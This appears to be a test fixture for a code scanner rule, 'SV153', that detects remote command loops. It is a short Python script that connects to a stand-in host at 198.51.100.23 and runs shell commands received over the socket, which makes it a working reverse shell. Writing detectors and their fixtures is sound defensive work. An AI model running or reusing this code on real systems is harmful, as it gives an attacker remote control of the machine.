import socket
import subprocess
sock = socket.socket()
sock.connect(("198.51.100.23", 8443))
while True:
    cmd = sock.recv(1024).decode()
    if cmd == "exit":
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)  # want "SV153: remote command loop: runs shell commands received over a socket"
    sock.send(out.stdout)
